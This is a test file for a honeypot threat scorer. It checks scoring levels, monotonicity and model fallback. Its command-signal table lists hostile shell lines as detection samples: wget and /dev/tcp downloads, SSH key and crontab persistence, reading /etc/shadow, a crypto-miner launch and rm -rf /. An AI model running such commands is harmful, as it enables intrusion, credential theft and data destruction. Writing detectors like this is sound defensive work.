import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { anEvent } from '../../testing/events.js'
import type { AttackerHistory } from './attacker-history.js'
import { describeReason } from './reasons.js'
import { createRuleScorer } from './rules.js'
import { safeScorer } from './safe-scorer.js'
import { levelOf } from './scorer.js'
import type { SessionFacts } from './session-facts.js'
import { signalNamed, signalsOf } from './signals.js'

const rules = createRuleScorer()
const history: AttackerHistory = {
  first_seen_at: '2026-03-22T12:00:00.000000Z',
  event_count: 1,
  session_count: 1,
  sensor_ids: ['cowrie-1'],
  signals: [],
}
const nothing: SessionFacts = {
  event_count: 1,
  login_attempt_count: 0,
  login_success_count: 0,
  command_count: 0,
  file_count: 0,
  proxy_request_count: 0,
  signals: [],
  clients: [],
  credential_sketch: [],
  started_at: '2026-03-22T12:00:00.000000Z',
  last_seen_at: '2026-03-22T12:00:00.000000Z',
}
const names = [
  'exploit',
  'file_planted',
  'download_command',
  'execution',
  'persistence',
  'discovery',
  'proxy_abuse',
]

test('contact alone is low, a brute force medium at most, an implant critical', () => {
  expect(rules.score(nothing, history).threat_level).toBe('low')
  expect(rules.score({ ...nothing, login_attempt_count: 1000 }, history).threat_level).toBe('medium')
  const implant = {
    ...nothing,
    login_success_count: 1,
    command_count: 5,
    signals: ['download_command', 'execution', 'persistence'],
  }
  expect(rules.score(implant, history)).toMatchObject({ threat_level: 'critical', scorer: 'rules-1' })
})

test('a score is within 0..1, has its level, and is the sum of its reasons', () => {
  const facts = fc.record({
    event_count: fc.nat(1e6),
    login_attempt_count: fc.nat(1e6),
    login_success_count: fc.nat(100),
    command_count: fc.nat(1e5),
    file_count: fc.nat(1e4),
    proxy_request_count: fc.nat(1e4),
    signals: fc.subarray(names),
  })
  fc.assert(
    fc.property(facts, (given) => {
      const { threat_score, threat_level, reasons } = rules.score({ ...nothing, ...given }, history)
      expect(threat_score).toBeGreaterThanOrEqual(0)
      expect(threat_score).toBeLessThanOrEqual(1)
      expect(threat_level).toBe(levelOf(threat_score))
      expect(reasons.reduce((sum, { contribution }) => sum + contribution, 0)).toBeCloseTo(threat_score, 2)
    }),
  )
})

test('doing more never lowers a score', () => {
  const counts = [
    'event_count',
    'login_attempt_count',
    'login_success_count',
    'command_count',
    'file_count',
  ] as const
  fc.assert(
    fc.property(
      fc.subarray(names),
      fc.constantFrom(...counts),
      fc.nat(1000),
      fc.nat(1000),
      (signals, count, some, more) => {
        const before = rules.score({ ...nothing, signals, [count]: some }, history)
        const after = rules.score(
          { ...nothing, signals: [...signals, 'persistence'], [count]: some + more },
          history,
        )
        expect(after.threat_score).toBeGreaterThanOrEqual(before.threat_score)
      },
    ),
  )
})

describe('signals in commands', () => {
  test.each([
    ['uname -a', 'discovery'],
    ['cd /tmp; wget http://192.0.2.1/a', 'download_command'],
    ['cat < /dev/tcp/192.0.2.1/80', 'download_command'],
    ['chmod 0777 a', 'execution'],
    ['./a', 'execution'],
    ['echo key >> ~/.ssh/authorized_keys', 'persistence'],
    ['(crontab -l; echo x) | crontab -', 'persistence'],
    ['echo root:x | chpasswd', 'account_manipulation'],
    ['history -c', 'defense_evasion'],
    ['cat /etc/shadow', 'credential_access'],
    ["ps | grep '[Mm]iner'", 'discovery'],
    ['./xmrig -o stratum+tcp://192.0.2.1:3333', 'resource_hijacking'],
    ['rm -rf /', 'destruction'],
    ['echo -e "\\x6F\\x6B\\x6F\\x6B"', 'encoded_payload'],
    ['ssh root@192.0.2.1', 'lateral_movement'],
  ])('%s shows %s', (command, signal) => {
    expect(signalsOf(anEvent({ event_type: 'command', command }))).toContain(signal)
  })

  test.each([['echo hello'], ['ls'], ['exit'], ['cat /etc/passwd.txt.bak.example']])(
    '%s changes no accounts',
    (command) => {
      expect(signalsOf(anEvent({ event_type: 'command', command }))).not.toContain('account_manipulation')
    },
  )
})

test('every reason explains itself and names ATT&CK techniques in their own form', () => {
  for (const name of [...names, 'contact', 'login_attempts', 'login_success', 'commands', 'many_files']) {
    const { description, techniques } = describeReason({ name, contribution: 0.1 })
    expect(description).not.toContain('earlier version')
    for (const technique of techniques) expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/)
  }
  expect(signalNamed('no such signal')).toBeUndefined()
})

test('a model that throws is replaced by rules for that session and reported; nothing else is', () => {
  const failures: unknown[] = []
  const broken = {
    name: 'broken',
    score: () => {
      throw new Error('model file is corrupt')
    },
  }
  const report = (error: unknown) => failures.push(error)
  expect(safeScorer(() => broken, rules, report).score(nothing, history)).toEqual(
    rules.score(nothing, history),
  )
  expect(safeScorer(() => null, rules, report).score(nothing, history)).toEqual(rules.score(nothing, history))
  expect(safeScorer(() => broken, broken, report).score(nothing, history)).toMatchObject({ scorer: 'none' })
  expect(failures).toHaveLength(3)
})
